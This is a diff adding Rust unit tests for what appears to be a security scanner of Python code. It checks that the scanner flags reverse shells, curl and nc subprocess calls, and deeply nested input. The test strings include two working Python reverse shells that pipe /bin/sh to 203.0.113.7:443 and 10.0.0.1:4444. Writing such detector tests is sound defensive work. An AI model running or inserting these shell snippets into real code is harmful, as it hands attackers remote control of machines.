@@ -525,3 +525,50 @@ fn hostile_python_never_panics() {
     let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
     let _ = run(&deep);
 }
+
+#[test]
+fn sh002_python_reverse_shell() {
+    let src = "import socket, os, pty\nHOST = \"203.0.113.7\"\ns = socket.create_connection((HOST, 443))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn(\"/bin/sh\")\n";
+    let o = with_perms(
+        src,
+        serde_json::json!({"network": {"outbound": ["203.0.113.7"]}, "subprocess": true}),
+    );
+    let f = one(&o, "SH-002");
+    assert_eq!(
+        (f.severity, f.line, f.stage_id),
+        (Severity::Critical, Some(6), "stage2")
+    );
+    let o = run(
+        "import socket, subprocess\ns = socket.socket()\ns.connect((\"10.0.0.1\", 4444))\nsubprocess.Popen([\"/bin/sh\", \"-i\"], stdin=s.fileno(), stdout=s.fileno())\n",
+    );
+    assert_eq!(one(&o, "SH-002").line, Some(4));
+    // Not a finding: a server replying with a command's output.
+    let o = run(
+        "import socket, subprocess\ns = socket.socket()\nconn, _ = s.accept()\nout = subprocess.run([\"uptime\"], capture_output=True)\nconn.sendall(out.stdout)\n",
+    );
+    none(&o, "SH-002");
+}
+
+#[test]
+fn fetcher_processes_are_network_use() {
+    let o = run(
+        "import subprocess\nsubprocess.run([\"curl\", \"-fsSL\", \"https://x.example/a.json\"])\nsubprocess.run([\"nc\", \"-z\", \"localhost\", \"5432\"])\n",
+    );
+    let f = one(&o, "CODE-001");
+    assert_eq!((f.severity, f.line), (Severity::Low, Some(2)));
+    assert_eq!(o.caps.net[0].host.as_deref(), Some("x.example"));
+}
+
+#[test]
+fn deep_nesting_is_bounded() {
+    let mut src = String::new();
+    for i in 0..3000 {
+        src.push_str(&" ".repeat(i));
+        src.push_str("if x:\n");
+    }
+    src.push_str(&" ".repeat(3000));
+    src.push_str("os.system(x)\n");
+    let _ = run(&src);
+    let calls = format!("{}x{}\n", "f(".repeat(3000), ")".repeat(3000));
+    let _ = run(&calls);
+}
